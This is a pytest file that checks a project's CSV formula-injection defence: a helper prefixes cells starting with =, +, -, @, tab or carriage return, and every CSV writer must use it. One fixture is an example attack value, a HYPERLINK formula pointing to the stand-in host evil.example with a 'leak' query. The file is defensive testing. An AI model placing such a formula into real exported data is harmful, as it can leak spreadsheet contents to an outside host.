"""CSV formula injection (issue 18, finding 2): one helper escapes every cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import vicinato
from vicinato.lib import spreadsheet

SRC = Path(vicinato.__file__).parent


@pytest.mark.parametrize(
    "value, written",
    [
        (
            '=HYPERLINK("http://evil.example/?leak","Lanterna")',
            '\'=HYPERLINK("http://evil.example/?leak","Lanterna")',
        ),
        ("+39 02 1234", "'+39 02 1234"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Lanterna", "Lanterna"),
        ("", ""),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_escaped(value, written):
    assert spreadsheet.safe_cell(value) == written


def test_the_writers_escape_every_row():
    out = io.StringIO()
    writer = spreadsheet.writer(out)
    writer.writerow(["name", "n"])
    writer.writerows([["=1+1", 2], ["ok", -1]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "n"], ["'=1+1", "2"], ["ok", "-1"]]

    out = io.StringIO()
    writer = spreadsheet.dict_writer(out, fieldnames=["name"])
    writer.writeheader()
    writer.writerow({"name": "@x"})
    writer.writerows([{"name": "+y"}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"name": "'@x"}, {"name": "'+y"}]


def test_no_export_writes_csv_without_the_helper():
    """Every CSV writer of the project is made by vicinato.lib.spreadsheet (readers may use csv freely)."""
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.parent != SRC / "lib" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []
